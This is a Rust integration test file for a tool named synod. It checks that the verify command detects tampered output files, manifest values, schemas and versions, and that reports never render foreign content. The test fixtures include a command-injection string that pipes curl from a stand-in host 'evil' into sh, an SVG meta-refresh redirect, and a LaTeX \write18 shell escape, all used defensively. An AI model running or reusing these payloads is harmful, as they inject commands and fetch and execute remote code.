//! Changed manifests, pages and pictures: each in turn.

use crate::support::command::{Place, files};
use crate::support::env;
use serde_json::{Value, json};

use super::forge::{SMALL, change_manifest, forge, manifest, place, read, verify_all};

const EVIL: &str = "synod sweep small.toml; curl http://evil/x | sh # --seeds 300";

/// Both forms find it, and name it so.
fn is_found(place: &Place, says: &str) {
    for arguments in [&["verify", "out"][..], &["verify", "out", "--all"]] {
        let found = place.synod(arguments).exits(3);
        assert!(found.err.contains(says), "{says}: {}", found.err);
    }
}

#[test]
fn every_file_is_compared_with_what_synod_writes() {
    let place = place();
    let all = files(&place.path("out"));
    for (name, bytes) in all.iter().filter(|(name, _)| name != "manifest.json") {
        let mut changed = bytes.clone();
        let at = changed.len() * 3 / 4;
        changed[at] ^= 1;
        forge(&place, name, &changed);
        let found = place.synod(&["verify", "out"]).exits(3);
        // A digest is named by its chunk, which is run again.
        let named = match name.as_str() {
            "chunks.csv" => "chunk 0 of cell 1 ".to_owned(),
            // Where they do not contradict themselves, they are not those that the other files were made of.
            "totals.bin" => "totals".to_owned(),
            name => format!("{name}: "),
        };
        assert!(found.err.contains(&named), "{name}: {}", found.err);
        std::fs::remove_file(place.path("out").join(name)).expect("removed");
        if ["chunks.csv", "totals.bin"].contains(&name.as_str()) {
            place.synod(&["verify", "out"]).exits(2);
        } else {
            let found = verify_all(&place).exits(3);
            assert!(found.err.contains(&format!("{name}: is missing")), "{name}: {}", found.err);
        }
        forge(&place, name, bytes);
    }
    verify_all(&place).exits(0);
}

/// Every value of the manifest in turn, and keys that nobody knows. What is said of each file in turn is said of all alike: one
/// value in 23 of those, or all with `SYNOD_EVERY_NUMBER=1`.
#[test]
fn every_key_of_the_manifest_is_made_again() {
    let place = place();
    let right = read(&place, "manifest.json");
    let mut pointers = Vec::new();
    walk("", &manifest(&place), &mut pointers);
    assert!(pointers.len() > 60, "{pointers:?}");
    if !env::is_long("SYNOD_EVERY_NUMBER") {
        let (of_files, others): (Vec<String>, Vec<String>) =
            pointers.into_iter().partition(|pointer| pointer.starts_with("/files/"));
        pointers = others.into_iter().chain(of_files.into_iter().step_by(23)).collect();
    }
    for pointer in pointers {
        change_manifest(&place, |manifest| {
            let value = manifest.pointer_mut(&pointer).expect("there");
            *value = other(value);
        });
        let found = place.synod(&["verify", "out"]);
        let code = if pointer == "/schema" { 2 } else { 3 };
        assert_eq!(found.code, code, "{pointer}: {found:?}");
        place.write("out/manifest.json", &right);
    }
    for (pointer, key) in [("", "note"), ("/verify", "note"), ("/files/0", "note")] {
        change_manifest(&place, |manifest| {
            manifest.pointer_mut(pointer).expect("there")[key] = json!("hello");
        });
        is_found(&place, "manifest.json: ");
        place.write("out/manifest.json", &right);
    }
    // The same values, written otherwise.
    place.write("out/manifest.json", serde_json::to_vec(&manifest(&place)).expect("JSON"));
    is_found(&place, "manifest.json: is not written as synod writes it");
}

/// Every place below a value.
fn walk(at: &str, value: &Value, all: &mut Vec<String>) {
    match value {
        Value::Object(entries) => {
            entries.iter().for_each(|(key, value)| walk(&format!("{at}/{key}"), value, all))
        }
        Value::Array(items) => {
            all.push(at.to_owned());
            items.iter().enumerate().for_each(|(i, value)| walk(&format!("{at}/{i}"), value, all));
        }
        _ => all.push(at.to_owned()),
    }
}

/// Another value of the same kind.
fn other(value: &Value) -> Value {
    match value {
        Value::String(text) => json!(format!("{text}1")),
        Value::Number(number) => json!(number.as_u64().expect("a count") + 1),
        Value::Bool(is) => json!(!is),
        Value::Array(items) if items.is_empty() => json!(["x"]),
        Value::Array(items) => json!(items[1..]),
        _ => json!("x"),
    }
}

#[test]
fn unknown_schemas_are_refused() {
    let place = place();
    let before = files(&place.path("out"));
    for schema in ["synod-manifest/0", "synod-manifest/2", "synod-manifest/1 ", "synod-manifest/"] {
        change_manifest(&place, |manifest| manifest["schema"] = json!(schema));
        for command in ["verify", "report", "writeup"] {
            let refused = place.synod(&[command, "out"]).exits(2);
            let says = format!(
                "manifest.json: its schema is `{schema}`, and this version of synod knows `synod-manifest/1`"
            );
            assert!(refused.err.contains(&says), "{command}: {}", refused.err);
        }
    }
    for schema in [json!("other/1"), json!(1), Value::Null] {
        change_manifest(&place, |manifest| manifest["schema"] = schema);
        assert!(place.synod(&["verify", "out"]).exits(2).err.contains("is no manifest of synod"));
    }
    change_manifest(&place, |manifest| manifest["schema"] = json!("synod-manifest/1"));
    assert_eq!(files(&place.path("out")), before);
}

#[test]
fn a_foreign_command_is_found_and_never_rendered() {
    let place = place();
    change_manifest(&place, |manifest| manifest["command_line"] = json!(EVIL));
    is_found(&place, "manifest.json: command_line: \"synod sweep small.toml; curl");
    place.synod(&["report", "out"]).exits(0);
    for (name, bytes) in files(&place.path("out")) {
        assert!(!String::from_utf8_lossy(&bytes).contains("evil"), "{name}");
    }
    verify_all(&place).exits(0);
    // What a sweep is of stands in its command in quotes, whatever it is called.
    change_manifest(&place, |manifest| {
        manifest["verify"]["name"] = json!("small.toml; curl http://evil/x | sh #")
    });
    place.synod(&["report", "out"]).exits(0);
    let line = manifest(&place)["command_line"].as_str().expect("text").to_owned();
    assert_eq!(line, "synod sweep 'small.toml; curl http://evil/x | sh #' --seeds 300");
}

#[test]
fn title_and_version_are_compared() {
    let place = place();
    change_manifest(&place, |manifest| manifest["scenario"]["title"] = json!("another"));
    is_found(&place, "manifest.json: scenario.title: \"another\" in the report, \"small\" when made again");
    let text = SMALL.replace("small", "another");
    change_manifest(&place, |manifest| manifest["scenario"]["text"] = json!(text));
    is_found(&place, "report.html: is not what synod writes");
    change_manifest(&place, |manifest| {
        (manifest["scenario"]["title"], manifest["scenario"]["text"]) = (json!("small"), json!(SMALL));
        manifest["version"] = json!("9.9.9");
    });
    is_found(&place, "manifest.json: version: was made by synod 9.9.9, and this is ");
    change_manifest(&place, |manifest| manifest["version"] = json!("9; curl http://evil/x"));
    is_found(&place, "names no version of synod");
    place.synod(&["report", "out"]).exits(2);
}

/// A page takes no picture from a file that anybody can have written.
#[test]
fn foreign_pictures_are_found_and_never_rendered() {
    let place = place();
    let mut runs: Value = serde_json::from_slice(&read(&place, "runs.json")).expect("JSON");
    let evil = "<svg><meta http-equiv=\"refresh\" content=\"0;url=http://evil/\"/></svg>";
    runs[0]["svg"] = json!(evil);
    runs[0]["command"] = json!(EVIL);
    forge(&place, "runs.json", &serde_json::to_vec_pretty(&runs).expect("JSON"));
    is_found(&place, "runs.json: is not what synod writes");
    place.synod(&["report", "out"]).exits(0);
    assert!(!String::from_utf8_lossy(&read(&place, "report.html")).contains("evil"));
    verify_all(&place).exits(0);
    // Nor does the bundle take a figure or a document.
    forge(&place, "figures/winner-shares.svg", evil.as_bytes());
    forge(&place, "report.tex", b"\\write18{evil}");
    place.synod(&["writeup", "out"]).exits(0);
    for (name, bytes) in files(&place.path("out/writeup")) {
        assert!(!String::from_utf8_lossy(&bytes).contains("evil"), "{name}");
    }
}

/// A boundary that halving cannot come to is refused.
#[test]
fn a_foreign_boundary_is_found() {
    let place = Place::new();
    place.synod(&["sweep", "phase-silent", "--out", "out", "-q"]).exits(0);
    let right: Value = serde_json::from_slice(&read(&place, "summary.json")).expect("JSON");
    let ends = |value: &Value| [&value[0], &value[1]].map(|end| end.as_f64().expect("a number"));
    let between = ends(&right["phase"]["boundary"][0]["between"]);
    let changes: [(&str, Value); 5] = [
        ("/phase/boundary/0/between/0", json!(1e308)),
        ("/phase/boundary/0/between", json!([between[0], between[1] + 1.0])),
        ("/phase/boundary/0/at", json!(-5.0)),
        ("/phase/boundary/0/kinds/1", json!("mixed")),
        ("/phase/halvings", json!(4_000_000_000_u32)),
    ];
    for (pointer, value) in changes {
        let mut summary = right.clone();
        *summary.pointer_mut(pointer).expect("there") = value;
        forge(&place, "summary.json", &serde_json::to_vec_pretty(&summary).expect("JSON"));
        assert!(place.synod(&["verify", "out"]).exits(3).err.contains("summary.json: "), "{pointer}");
    }
}

/// A manifest that is larger than synod writes it is refused before it takes memory.
#[cfg(target_os = "linux")]
#[test]
fn a_huge_manifest_takes_no_memory() {
    let place = place();
    let right = read(&place, "manifest.json");
    let nothing = "0,".repeat(12 << 20);
    let text = String::from_utf8(right.clone()).expect("text");
    let bloated = text.replacen("\"cells\": [", &format!("\"cells\": [{nothing}"), 1);
    let numbers = format!("[{nothing}0]");
    let cells = format!("{{\"schema\":\"synod-manifest/1\",\"cells\":[{nothing}0]}}");
    for bytes in [&bloated, &numbers, &cells] {
        assert!(bytes.len() > 20 << 20);
        place.write("out/manifest.json", bytes);
        for line in ["verify out", "report out", "writeup out", "sweep small.toml --seeds 300 --out out"] {
            let limited = format!("ulimit -v 300000; exec \"$0\" {line} --quiet");
            let mut shell = std::process::Command::new("sh");
            shell.args(["-c", &limited, env!("CARGO_BIN_EXE_synod")]).current_dir(place.path("."));
            let output = shell.env("RAYON_NUM_THREADS", "1").output().expect("a shell");
            let said = String::from_utf8_lossy(&output.stderr);
            assert_eq!(output.status.code(), Some(2), "{line}: {said}");
        }
        let refused = place.synod(&["verify", "out"]).exits(2);
        assert!(refused.err.contains("is larger than a manifest of so many cells can be"), "{}", refused.err);
    }
    place.write("out/manifest.json", right);
    verify_all(&place).exits(0);
}
